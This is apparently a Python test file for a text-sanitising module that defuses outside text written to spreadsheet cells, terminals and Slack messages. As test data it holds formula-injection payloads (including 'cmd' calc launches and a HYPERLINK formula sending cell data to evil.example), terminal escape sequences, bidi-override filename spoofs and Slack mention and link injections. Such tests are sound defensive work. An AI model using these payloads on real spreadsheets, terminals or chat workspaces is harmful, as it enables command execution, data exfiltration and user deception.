"""The three sinks of outside text (cmrt.textsafe): spreadsheet cells, the terminal, Slack mrkdwn, with hostile
inputs (formula prefixes, Excel-escaped control characters, mrkdwn, links, bidi overrides)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmrt.textsafe import FORMULA_START, cell, slack, terminal
from handlers.slack.text import clean, esc, plain

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x1b=1+1",  # a control character first: removed, and what is left still starts with '='
]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_starts_with_an_apostrophe(value: str) -> None:
    out = cell(value)
    assert isinstance(out, str) and out.startswith("'")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", out)


def test_harmless_cells_and_non_text_pass_unchanged() -> None:
    assert cell("Wolfram Bergbau und Hütten AG") == "Wolfram Bergbau und Hütten AG"
    assert cell("a=b") == "a=b"
    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(None) is None


@given(st.text())
def test_no_cell_text_starts_like_a_formula(value: str) -> None:
    out = cell(value)
    assert isinstance(out, str)
    assert out.startswith("'") or not out.startswith(FORMULA_START)


def test_terminal_text_has_no_c0_or_c1_controls_and_no_bidi() -> None:
    # "_x001B_[2J" in a workbook cell is decoded by the reader to ESC [ 2 J (clear screen)
    hostile = "ACME\x1b[2J\x1b]0;owned\x07 Corp\x9b31m\u202egnp.exe\r\nnext\tline"
    out = terminal(hostile)
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out
    assert "\u202e" not in out
    assert out == "ACME[2J]0;owned Corp31mgnp.exe\nnext\tline"


@given(st.text())
def test_terminal_never_lets_a_control_character_through(value: str) -> None:
    out = terminal(value)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)


def test_slack_keeps_the_characters_but_not_their_power() -> None:
    out = slack("*Bold* _italic_ ~strike~ `code` ```block```")
    assert not re.search(r"[*_~`]", out)
    assert out == "∗Bold∗ ˍitalicˍ ∼strike∼ ˋcodeˋ ˋˋˋblockˋˋˋ"


def test_slack_quote_at_line_start_mentions_and_links() -> None:
    out = slack("> quoted\n  >also\nmid > line <!channel> <@U1> <https://evil.example|click>")
    assert "\n&gt;" not in "\n" + out and "\n  &gt;" not in out
    assert out.startswith("＞ quoted\n  ＞also")
    assert "mid &gt; line" in out
    assert "<" not in out and ">" not in out


@pytest.mark.parametrize(
    "text",
    ["https://evil.example/login", "see http://10.0.0.1/x", "www.evil.example", "visit evil.com now",
     "ftp://files.evil.org/a", "phish.co.uk/path"],
)  # fmt: skip
def test_slack_bare_links_are_not_linkified(text: str) -> None:
    out = slack(text)
    assert "://" not in out
    assert not re.search(r"[a-z0-9]\.[a-z]", out, re.I), out


def test_slack_keeps_e_mail_addresses_and_ordinary_text() -> None:
    assert slack("mail anna@acme.example, version 6.5, Co. Ltd.") == "mail anna@acme.example, version 6.5, Co. Ltd."


def test_bidi_overrides_and_isolates_are_removed_from_names() -> None:
    name = "Good\u202aCo\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069 Ltd"
    assert esc(name) == "GoodCo Ltd"
    assert plain(name) == "GoodCo Ltd"
    assert clean(name) == "GoodCo Ltd"


def test_plain_text_escapes_entities_but_keeps_mrkdwn_characters() -> None:
    assert plain("*A_B* <!here>") == "*A_B* &lt;!here&gt;"


@given(st.text())
def test_slack_output_never_carries_formatting_or_link_markup(value: str) -> None:
    out = esc(value)
    assert not re.search(r"[*_~`<>\u202a-\u202e\u2066-\u2069]", out)
    assert not re.search(r"(?m)^\s*&gt;", out)


def test_code_spans_keep_ids_but_cannot_be_closed_or_mention() -> None:
    from handlers.slack.text import code

    assert code("company.contact_email") == "company.contact_email"
    assert code("x` *bold* <!channel> \u202e") == "xˋ *bold* &lt;!channel&gt;"


def test_the_rollup_writes_formula_like_text_as_an_inline_string() -> None:
    """Our own CMRT (cmrt.rollup.xlsx.fill) writes every value as an inline string: never a formula, and the
    Excel escape ``_x001B_`` stays literal text (``_x005F_``)."""
    import io
    import zipfile

    from cmrt.rollup.xlsx import Value, fill

    sheet = b'<worksheet><sheetData><row r="1"><c r="A1"/></row></sheetData></worksheet>'
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="x"/>',
        "xl/workbook.xml": b'<workbook><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>",
        "xl/worksheets/sheet1.xml": sheet,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    out = fill(buffer.getvalue(), {"S": {"A1": Value('=HYPERLINK("http://evil","x")'), "B1": Value("_x001B_[2J")}})
    xml = zipfile.ZipFile(io.BytesIO(out)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b'<c r="A1" t="inlineStr"><is><t>=HYPERLINK(' in xml
    assert b"_x005F_x001B_[2J" in xml


def test_rich_tables_show_workbook_text_without_control_characters() -> None:
    import io

    from bot.commands._console import plain_table, print_table

    hostile = "Evil\x1b]0;pwned\x07 Corp\u202egnp"
    out = io.StringIO()
    print_table(["Supplier"], [[hostile]], out=out, rich=True)
    text = out.getvalue()
    assert "Evil]0;pwned Corpgnp" in text and "\x07" not in text and "\u202e" not in text
    assert "\x1b]" not in text
    assert plain_table(["Supplier"], [[hostile]])[1] == "Evil]0;pwned Corpgnp"
